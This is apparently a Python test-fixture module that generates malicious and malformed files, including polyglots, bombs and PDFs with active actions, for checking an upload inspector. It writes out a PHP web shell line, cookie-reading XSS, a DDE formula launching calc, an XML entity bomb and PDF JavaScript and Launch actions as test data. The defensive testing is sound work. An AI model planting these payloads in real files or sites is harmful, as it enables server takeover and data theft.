"""Files that nobody's scanner writes, made on the spot: name → what the inspector finds, and how to make it.

``HARMLESS`` breaks no decoder and may be looked at anywhere; ``HEAVY`` wants more memory or time
than there is and belongs into the inspector's own process only.
"""

import io
import struct
import zipfile
import zlib
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.accounts.documents import image_bytes, pdf_bomb, pdf_bytes, png_bytes, png_chunk, saved, with_stream

SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<html><script>alert(document.cookie)</script></html>"


def made(change, **save):
    """Return a PDF of one page after ``change``."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    target = io.BytesIO()
    pdf.save(target, **save)
    return target.getvalue()


def cut(make, percent):
    content = make()
    return content[: max(9, len(content) * percent // 100)]


def archive(name="payload.html", content=HTML):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return target.getvalue()


def jpeg_with_comment(comment):
    whole = image_bytes("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def png_with_text(text):
    whole = image_bytes()
    return whole[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + whole[33:]


def animated_png():
    target = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


def jpeg_that_says(width, height):
    """Return a JPEG whose header says that it is this large."""
    whole = image_bytes("JPEG")
    place = whole.index(b"\xff\xc0") + 5
    return whole[:place] + struct.pack(">HH", height, width) + whole[place + 4 :]


def encrypted(revision, user):
    # Revisions 2 and 3 are RC4, 4 is AES with 128 bits, 6 with 256.
    how = pikepdf.Encryption(owner="owner", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4)
    return pdf_bytes(encryption=how)


def on_open(**entries):
    return made(lambda pdf: pdf.Root.__setitem__("/OpenAction", Dictionary(Type=Name.Action, **entries)))


def on_page(**entries):
    return made(lambda pdf: [pdf.pages[0].obj.__setitem__(f"/{key}", value) for key, value in entries.items()])


def link_with(**action):
    return on_page(Annots=Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(**action))]))


def page_tree_loop():
    def change(pdf):
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages, pdf.pages[0].obj])

    return made(change)


def page_tree_fan(levels):
    """Return a PDF whose page tree says the same two children on each of so many levels."""

    def change(pdf):
        node = pdf.pages[0].obj
        for _ in range(levels):
            node = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([node, node]), Count=2))
        pdf.Root.Pages = node

    return made(change)


def deeply_nested(levels):
    def change(pdf):
        value = Array([])
        for _ in range(levels):
            value = Array([value])
        pdf.Root["/Deep"] = value

    return made(change)


def forms_that_draw_forms(levels, width):
    """Return a PDF whose page draws a form that draws ``width`` forms, and so on."""

    def change(pdf):
        inner = None
        for _ in range(levels):
            resources = Dictionary(XObject=Dictionary(X=inner)) if inner is not None else Dictionary()
            content = b"/X Do " * width if inner is not None else b"0 0 1 1 re f"
            inner = pdf.make_stream(
                content, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Resources=resources
            )
        page = pdf.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(X=inner))
        page.Contents = pdf.make_stream(b"/X Do")

    return made(change)


def image_of(width, height, packed, **entries):
    def change(pdf):
        picture = pdf.make_stream(
            packed, Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
            ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=Name.FlateDecode, **entries,
        )  # fmt: skip
        page = pdf.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(X=picture))
        page.Contents = pdf.make_stream(b"500 0 0 500 0 0 cm /X Do")

    return made(change)


def zeros(megabytes):
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(megabytes)) + packer.flush()


def content_of(megabytes):
    """Return a PDF whose page unpacks to so many megabytes of drawing."""

    def change(pdf):
        packer = zlib.compressobj(1)
        packed = b"".join(packer.compress(b"0 0 1 1 re f\n" * 80_000) for _ in range(megabytes)) + packer.flush()
        pdf.pages[0].obj.Contents = pdf.make_stream(packed, Filter=Name.FlateDecode)

    return made(change)


def chinese_without_font():
    """Return a PDF that names a Chinese font and does not carry it; harmless, and usual."""
    descendant = Dictionary(
        Type=Name.Font, Subtype=Name.CIDFontType0, BaseFont=Name("/STSong-Light"),
        CIDSystemInfo=Dictionary(Registry=b"Adobe", Ordering=b"GB1", Supplement=4),
    )  # fmt: skip
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type0, BaseFont=Name("/STSong-Light"), Encoding=Name("/UniGB-UCS2-H"),
        DescendantFonts=Array([descendant]),
    )  # fmt: skip
    text = "营业执照".encode("utf-16-be").hex().encode()

    def change(pdf):
        page = pdf.pages[0].obj
        page.Resources = Dictionary(Font=Dictionary(F=font))
        page.Contents = pdf.make_stream(b"BT /F 80 Tf 50 300 Td <" + text + b"> Tj ET")

    return made(change)


def hidden_in_object_stream():
    def change(pdf):
        pdf.Root["/Deep"] = pdf.make_indirect(Dictionary(X=Dictionary(S=Name.Launch, F="a.exe")))

    return made(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def spelled_otherwise():
    return with_stream(b"<</S/J#61va#53cript/J#53(app.alert\\(1\\))>>")


def largest_picture():
    """Return a PNG of as many pixels as a picture may have, half transparent: what decoding costs most."""
    return saved(Image.new("RGBA", (10_000, 5_000), (0, 0, 0, 128)), "PNG", compress_level=1)


HARMLESS = {
    "svg": ("other_kind", lambda: SVG),
    "gif and script": ("other_kind", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)"),
    "html": ("other_kind", lambda: b"<!doctype html>" + HTML),
    "zip": ("other_kind", archive),
    "zip bomb": ("other_kind", lambda: archive("bomb", bytes(20 * 2**20))),
    "program": ("other_kind", lambda: b"MZ\x90\x00" + bytes(100)),
    "heic": ("other_kind", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50)),
    "tiff": ("other_kind", lambda: b"II*\x00" + bytes(50)),
    "formula": ("other_kind", lambda: b"=cmd|' /C calc'!A0"),
    "xml bomb": ("other_kind", lambda: b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'),
    "one byte": ("other_kind", lambda: b"%"),
    "only a mark": ("damaged_pdf", lambda: b"%PDF-"),
    "pdf after a blank": ("other_kind", lambda: b" " + pdf_bytes()),
    "pdf and zip": ("mixed", lambda: pdf_bytes() + archive()),
    "pdf around zip": ("mixed", lambda: pdf_bytes() + archive() + b"\n%%EOF\n"),
    "pdf and html": ("mixed", lambda: b"%PDF-1.4\n" + HTML + pdf_bytes()[9:]),
    "pdf and php behind it": ("mixed", lambda: pdf_bytes() + PHP),
    "jpeg and zip": ("mixed", lambda: image_bytes("JPEG") + archive()),
    "jpeg and jar": ("mixed", lambda: image_bytes("JPEG") + archive("META-INF/MANIFEST.MF", b"Main-Class: A\n")),
    "jpeg and php": ("mixed", lambda: jpeg_with_comment(PHP)),
    "jpeg and html": ("mixed", lambda: image_bytes("JPEG") + HTML),
    "jpeg in front of pdf": ("mixed", lambda: jpeg_with_comment(pdf_bytes())),
    "png and more": ("mixed", lambda: image_bytes() + b"more"),
    "png and zip": ("mixed", lambda: image_bytes() + archive()),
    "png and php": ("mixed", lambda: png_with_text(PHP)),
    "animated png": ("animated", animated_png),
    "400-megapixel png": ("too_many_pixels", lambda: png_bytes(20_000, 20_000)),
    "400-megapixel jpeg": ("too_many_pixels", lambda: jpeg_that_says(20_000, 20_000)),
    "line of 50 million pixels": ("too_many_pixels", lambda: png_bytes(50_000_001, 1)),
    "pdf with a huge picture": ("too_many_pixels", lambda: image_of(20_000, 20_000, zeros(1))),
    "200 pages": ("too_many_pages", lambda: pdf_bytes(pages=200)),
    "no page": ("damaged_pdf", lambda: made(lambda pdf: pdf.pages.__delitem__(0))),
    "page tree loop": ("damaged_pdf", page_tree_loop),
    "page tree that fans out": ("damaged_pdf", lambda: page_tree_fan(30)),
    "deeply nested": ("damaged_pdf", lambda: deeply_nested(300)),
    "script": ("active", lambda: on_open(S=Name.JavaScript, JS="app.alert(1)")),
    "script by another spelling": ("active", spelled_otherwise),
    "launch": ("active", lambda: on_open(S=Name.Launch, F="calc.exe")),
    "launch in an object stream": ("active", hidden_in_object_stream),
    "site at opening": ("active", lambda: on_open(S=Name.URI, URI="http://192.0.2.1/")),
    "site after a page": ("active", lambda: on_open(S=Name.GoTo, Next=Dictionary(S=Name.URI, URI="http://x"))),
    "script at a page": ("active", lambda: on_page(AA=Dictionary(O=Dictionary(S=Name.JavaScript, JS="1")))),
    "form to send": ("active", lambda: link_with(S=Name.SubmitForm, F="http://x")),
    "other document": ("active", lambda: link_with(S=Name.GoToR, F="//host/x.pdf")),
    "attachment": ("active", lambda: made(lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ"))),
    "xfa": ("active", lambda: made(lambda pdf: pdf.Root.__setitem__("/AcroForm", Dictionary(XFA="<xdp/>")))),
    "content in another file": ("active", lambda: with_stream(b"", F=pikepdf.String("//host/share/x"))),
    "form of another file": ("active", lambda: with_stream(b"", Subtype=Name.Form, Ref=Dictionary(F="x.pdf", Page=0))),
}  # fmt: skip
for revision in (2, 3, 4, 6):
    for what, user in [("password", "secret"), ("restrictions", "")]:
        HARMLESS[f"{what}, revision {revision}"] = ("protected", partial(encrypted, revision, user))
for percent in (10, 50, 90, 99):
    HARMLESS[f"pdf cut at {percent} %"] = ("damaged_pdf", partial(cut, partial(pdf_bytes, 3), percent))
    HARMLESS[f"jpeg cut at {percent} %"] = ("damaged_picture", partial(cut, partial(image_bytes, "JPEG"), percent))
    HARMLESS[f"png cut at {percent} %"] = ("damaged_picture", partial(cut, image_bytes, percent))
HEAVY = {
    "objects of 700 MB": lambda: pdf_bomb(700),
    "content of 700 MB": lambda: content_of(700),
    "forms that draw forms": lambda: forms_that_draw_forms(12, 12),
}
